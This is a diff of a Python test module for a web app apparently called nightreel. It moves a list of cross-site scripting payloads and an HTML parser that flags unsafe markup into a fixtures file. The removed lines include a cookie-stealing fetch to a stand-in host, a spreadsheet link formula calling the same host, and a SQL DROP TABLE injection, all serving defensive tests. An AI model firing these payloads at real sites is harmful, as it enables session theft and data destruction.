@@ -3,11 +3,10 @@
 from __future__ import annotations
 
 from collections.abc import Iterator
-from html.parser import HTMLParser
-from itertools import product
 from urllib.parse import quote
 
 import pytest
+from fixtures.hostile_texts import HOSTILE, Page
 from fixtures.work_searched import Library
 from fixtures.work_signed_in import Console, add_people, served_console
 
@@ -15,61 +14,6 @@ from nightreel.database.current_recipes import make_current
 from nightreel.database.queues import bring_into_force
 from nightreel.database.sessions import add_session
 from nightreel.review.queue_file import shipped_queues
-
-RUN = ("hit=1", "window.hit=1", "alert(1)", "fetch('//evil.example/'+document.cookie)", "top.hit=1")
-FORMS = (
-    "<script>{}</script>",
-    "<ScRiPt>{}</sCrIpT>",
-    "<img src=x onerror={}>",
-    "<svg onload={}>",
-    '"><svg/onload={}>',
-    "'><img src=x onerror={}>",
-    '" onmouseover={} x="',
-    "' autofocus onfocus={} x='",
-    "javascript:{}",
-    '<a href="javascript:{}">x</a>',
-    '<iframe srcdoc="<script>{}</script>">',
-    "</textarea><script>{}</script>",
-    "</title><script>{}</script>",
-    '<math><mi xlink:href="javascript:{}">x</mi></math>',
-    "<details open ontoggle={}>",
-    "{{{{constructor.constructor('{}')()}}}}",
-    '<div hx-on:load="{}" hx-get="/x" hx-trigger="load">',
-    "-->\n<script>{}</script>",
-    "\x1b[31m{}\u202e",
-    '=HYPERLINK("//evil.example","{}") \'; DROP TABLE nightreel.videos; --',
-)
-HOSTILE = [form.format(program) for form, program in product(FORMS, RUN)]
-OURS = {"hx-get", "hx-target", "hx-indicator", "hx-headers"}
-
-
-class Page(HTMLParser):
-    """What a browser would make of a page: scripts, attributes that run something, and addresses."""
-
-    def __init__(self, text: str) -> None:
-        super().__init__(convert_charrefs=True)
-        self.wrong: list[str] = []
-        self.said: list[str] = []
-        self._in_script = False
-        self.feed(text)
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        given = dict(attrs)
-        self._in_script = tag == "script"
-        if tag == "script" and not (given.get("src") or "").startswith("/static/"):
-            self.wrong.append(f"a script: {attrs}")
-        if tag in ("iframe", "object", "embed", "base", "math", "style"):
-            self.wrong.append(tag)
-        for name, value in attrs:
-            if name.startswith("on") or (name.startswith("hx-") and name not in OURS) or name == "style":
-                self.wrong.append(f"{tag} {name}={value}")
-            if name in ("href", "src", "action", "xlink:href") and not (value or "").startswith(("/", "#")):
-                self.wrong.append(f"{tag} {name}={value}")
-
-    def handle_data(self, data: str) -> None:
-        self.said.append(data)
-        if self._in_script and data.strip():
-            self.wrong.append(f"a program: {data}")
 
 
 def test_there_are_a_hundred_different_strings():
